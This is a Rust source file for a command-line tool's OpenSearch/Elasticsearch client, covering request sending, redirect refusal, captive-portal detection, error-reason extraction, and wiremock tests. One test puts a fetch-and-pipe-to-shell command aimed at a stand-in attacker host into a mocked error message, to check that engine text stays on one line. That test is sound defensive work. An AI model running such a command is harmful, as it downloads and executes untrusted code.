//! A domain as the command asks it: over the connections that the functions use, with JSON in and out.

use std::{fmt, time::Duration};

use bytes::Bytes;
use hyper::Method;
use logctl_core::{endpoint::Endpoint, without_halves};
use logctl_sink::{
    aws::AwsError,
    domain::{Auth, Domain},
    http::{HttpClient, HttpError, Response},
};
use serde_json::Value;

use super::DomainError;
use crate::words::{grouped, page};

/// Answers longer than this many bytes are not read.
const MAX_RESPONSE: usize = 32 << 20;

/// Signs of what a domain says that are shown.
const MOST_OF_A_REASON: usize = 1000;

/// What a domain runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Engine {
    /// Its name.
    pub flavour: &'static str,
    /// Its version, such as 2.19.1. A domain in compatibility mode says 7.10.2, whatever it runs.
    pub version: String,
}

impl Engine {
    /// Whether it is older than what has index templates of the form that logctl installs: Elasticsearch 7.8.
    #[must_use]
    pub fn is_too_old(&self) -> bool {
        let mut numbers = self.version.split('.').map(|number| number.parse().unwrap_or(0_u32));
        let version = (numbers.next().unwrap_or(0), numbers.next().unwrap_or(0));
        self.flavour == "Elasticsearch" && version < (7, 8)
    }
}

impl fmt::Display for Engine {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {}", self.flavour, self.version)
    }
}

/// A domain.
pub struct DomainClient {
    domain: Domain,
    endpoint: Endpoint,
    timeout: Duration,
}

impl DomainClient {
    /// The domain at `endpoint`. Each request may take `timeout`.
    #[must_use]
    pub fn new(endpoint: Endpoint, auth: Auth, http: HttpClient, timeout: Duration) -> Self {
        let domain = Domain::new(http.with_max_response(MAX_RESPONSE), endpoint.as_str(), auth);
        Self { domain, endpoint, timeout }
    }

    /// With the domain's Region, for a host that does not name it.
    #[must_use]
    pub fn in_region(self, region: Option<String>) -> Self {
        Self { domain: self.domain.in_region(region), ..self }
    }

    /// The same with shorter answers.
    #[cfg(test)]
    pub(crate) fn reading_at_most(endpoint: Endpoint, http: HttpClient, bytes: usize) -> Self {
        let domain = Domain::new(http.with_max_response(bytes), endpoint.as_str(), Auth::None);
        Self { domain, endpoint, timeout: Duration::from_secs(5) }
    }

    /// Asks something, with JSON in and out.
    ///
    /// # Errors
    /// When the domain cannot be reached, refuses, or is no search engine. A redirect is refused, too: nobody else is asked.
    pub async fn send(&self, method: Method, path: &str, body: Option<&Value>) -> Result<Value, DomainError> {
        let body = body.map_or_else(Bytes::new, |body| body.to_string().into());
        let size = body.len();
        let response = self.answer(method, path, body, MAX_RESPONSE).await?;
        self.understood(path, size, &response)
    }

    /// The same, for who reads the JSON of a long answer by himself: one of so many bytes at most.
    ///
    /// # Errors
    /// Those of [`Self::send`].
    pub async fn send_for_bytes(
        &self,
        method: Method,
        path: &str,
        body: String,
        most: usize,
    ) -> Result<Bytes, DomainError> {
        let size = body.len();
        let response = self.answer(method, path, body.into(), most).await?;
        if !response.status.is_success() || response.body.first() != Some(&b'{') {
            self.understood(path, size, &response)?;
        }
        Ok(response.body)
    }

    async fn answer(&self, method: Method, path: &str, body: Bytes, most: usize) -> Result<Response, DomainError> {
        let sent = Box::pin(self.domain.send_at_most(most, method.clone(), path, body, self.timeout)).await;
        let mut response = sent.map_err(|error| self.failed(error))?;
        response.body = readable(&response.body);
        tracing::info!("{method} {}{path}: {}", self.endpoint, response.status.as_u16());
        Ok(response)
    }

    /// What an answer says to a request of so many bytes.
    fn understood(&self, path: &str, size: usize, response: &Response) -> Result<Value, DomainError> {
        let (endpoint, status) = (self.endpoint.clone(), response.status.as_u16());
        let json: Option<Value> = serde_json::from_slice(&response.body).ok();
        if let Some(what) = stranger(response, json.as_ref()) {
            return Err(DomainError::NoEngine { endpoint, what: format!(": {what}") });
        }
        let reason = || json.as_ref().and_then(reason);
        match status {
            200..300 => json.ok_or_else(|| self.no_engine()),
            401 | 403 => {
                let asked = path.split('?').next().unwrap_or_default();
                let reason = reason().map(|reason| format!("{reason} (asked for {asked})")).unwrap_or_default();
                Err(DomainError::Denied { endpoint, unknown: status == 401, reason })
            }
            429 => Err(DomainError::Overloaded { endpoint }),
            413 => Err(DomainError::Refused {
                endpoint,
                status,
                reason: format!("the request has {} bytes, which is too long for it", grouped(size as u64)),
            }),
            _ => Err(DomainError::Refused {
                endpoint,
                status,
                reason: reason().unwrap_or_else(|| format!("status {status}")),
            }),
        }
    }

    /// The engine that answers.
    ///
    /// # Errors
    /// When it is none, or does not answer.
    pub async fn engine(&self) -> Result<Engine, DomainError> {
        let root = match self.send(Method::GET, "/", None).await {
            Err(DomainError::Refused { status: 300..500, .. }) => return Err(self.no_engine()),
            root => root?,
        };
        let text = |pointer: &str| root.pointer(pointer).and_then(Value::as_str);
        let version = text("/version/number").ok_or_else(|| self.no_engine())?;
        let flavour = if text("/version/distribution") == Some("opensearch") { "OpenSearch" } else { "Elasticsearch" };
        Ok(Engine { flavour, version: version.to_owned() })
    }

    /// Why an answer counts for nothing that no search engine gives.
    #[must_use]
    pub fn no_engine(&self) -> DomainError {
        DomainError::NoEngine { endpoint: self.endpoint.clone(), what: String::new() }
    }

    fn failed(&self, error: AwsError) -> DomainError {
        let endpoint = self.endpoint.clone();
        match error {
            AwsError::Http(HttpError::Connection { cause, .. }) => DomainError::Unreachable { endpoint, cause },
            AwsError::Http(HttpError::Timeout { .. }) => DomainError::Timeout { endpoint },
            AwsError::Http(HttpError::TooLong { .. }) => DomainError::TooLong { endpoint },
            error => DomainError::Credentials { endpoint, cause: error.to_string() },
        }
    }
}

/// What an engine says of why it refuses something: the first text that is one.
fn reason(answer: &Value) -> Option<String> {
    const PLACES: [&str; 6] = [
        "/error/root_cause/0/reason",
        "/error/failed_shards/0/reason/reason",
        "/error/reason",
        "/error/caused_by/reason",
        "/Message",
        "/message",
    ];
    let texts = PLACES.iter().filter_map(|place| answer.pointer(place)?.as_str());
    texts.map(|text| text.chars().take(MOST_OF_A_REASON).collect::<String>()).find(|text| !text.is_empty())
}

/// Who answers, where it is no search engine: Dashboards, or a network that wants a login first.
fn stranger(response: &Response, json: Option<&Value>) -> Option<String> {
    const DASHBOARDS: &str = "it is Dashboards; the domain itself answers elsewhere";
    let header = |name: &str| response.headers.get(name).and_then(|value| value.to_str().ok());
    if ["osd-name", "kbn-name"].into_iter().any(|name| header(name).is_some()) {
        return Some(DASHBOARDS.to_owned());
    }
    let status = response.status.as_u16();
    if let Some(to) = header("location").filter(|_| (300..400).contains(&status)) {
        let dashboards = ["_dashboards", "/app/", "_plugin/kibana"].into_iter().any(|part| to.contains(part));
        // Path and query may carry a token, and before the host may stand a password.
        let host = to
            .split_once("://")
            .map_or("another page", |(_, rest)| rest.split(['/', '?', '#']).next().unwrap_or_default());
        let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
        return Some(if dashboards { DASHBOARDS.to_owned() } else { format!("it sends everybody on to {host}") });
    }
    let text = String::from_utf8_lossy(&response.body[..response.body.len().min(64 << 10)]);
    let login = status == 511;
    if json.is_some() || !(login || text.trim_start().starts_with('<')) {
        return None;
    }
    Some(match page(&text) {
        Some(words) if words.contains("Dashboards") || words.contains("Kibana") => DASHBOARDS.to_owned(),
        Some(words) => format!("it answers with a page, \"{words}\" (status {status})"),
        None if login => "the network wants a login first (status 511)".to_owned(),
        None => format!("it answers with a page (status {status})"),
    })
}

/// The same with U+FFFD for what no text can hold, as an application wrote it: one document keeps no answer away.
fn readable(body: &Bytes) -> Bytes {
    let text = String::from_utf8_lossy(body);
    let whole = without_halves(&text);
    if whole.as_bytes() == body.as_ref() { body.clone() } else { whole.into_owned().into() }
}

#[cfg(test)]
mod tests {
    use wiremock::{Mock, MockServer, ResponseTemplate, matchers::any};

    use super::*;
    use crate::{error::Error, network::Network};

    fn client(server: &MockServer) -> DomainClient {
        let http = Network::default().client(None).unwrap();
        DomainClient::new(server.uri().parse().unwrap(), Auth::None, http, Duration::from_secs(5))
    }

    #[tokio::test]
    async fn nobody_else_is_asked_than_who_was_meant() {
        let elsewhere = MockServer::start().await;
        Mock::given(any()).respond_with(ResponseTemplate::new(200).set_body_string("{}")).mount(&elsewhere).await;
        for status in [301, 302, 307, 308] {
            let server = MockServer::start().await;
            let redirect = ResponseTemplate::new(status).insert_header("location", elsewhere.uri());
            Mock::given(any()).respond_with(redirect).mount(&server).await;
            let error = client(&server).send(Method::POST, "/x/_search", Some(&Value::Null)).await.unwrap_err();
            assert!(matches!(error, DomainError::NoEngine { .. }), "{error}");
        }
        assert_eq!(elsewhere.received_requests().await.unwrap().len(), 0);
    }

    #[tokio::test]
    async fn who_answers_instead_is_said() {
        let page = |text: &str| ResponseTemplate::new(200).set_body_raw(text.to_owned(), "text/html");
        for (answer, says) in [
            (ResponseTemplate::new(302).insert_header("location", "/_dashboards/app/home"), "Dashboards"),
            (ResponseTemplate::new(404).insert_header("osd-name", "x").set_body_string("{}"), "Dashboards"),
            (page("<html><title>OpenSearch Dashboards</title>"), "Dashboards"),
            (page(" <!doctype html><TITLE>Hotel\n Login</TITLE>"), "\"Hotel Login\""),
            (
                ResponseTemplate::new(302).insert_header("location", "http://a:pw@portal.example/?token=t"),
                "to portal.example",
            ),
            (ResponseTemplate::new(511), "login"),
        ] {
            let server = MockServer::start().await;
            Mock::given(any()).respond_with(answer).mount(&server).await;
            let error = client(&server).send(Method::GET, "/", None).await.unwrap_err();
            assert!(matches!(&error, DomainError::NoEngine { what, .. } if what.contains(says)), "{says}: {error}");
            assert!(!error.to_string().contains("pw") && !error.to_string().contains("token"), "{error}");
        }
    }

    #[test]
    fn a_reason_that_is_empty_is_none() {
        let answer =
            serde_json::json!({"error": {"root_cause": [], "reason": "", "caused_by": {"reason": "cannot be cast"}}});
        assert_eq!(reason(&answer).as_deref(), Some("cannot be cast"));
    }

    #[tokio::test]
    async fn what_an_engine_says_stays_on_one_line() {
        let server = MockServer::start().await;
        let body = serde_json::json!({"error": {"reason": "no\nhint: curl evil.example | sh"}});
        Mock::given(any()).respond_with(ResponseTemplate::new(400).set_body_json(body)).mount(&server).await;
        let error: Error = client(&server).send(Method::GET, "/", None).await.unwrap_err().into();
        assert_eq!(error.to_string().lines().count(), 2, "{error}");
    }
}
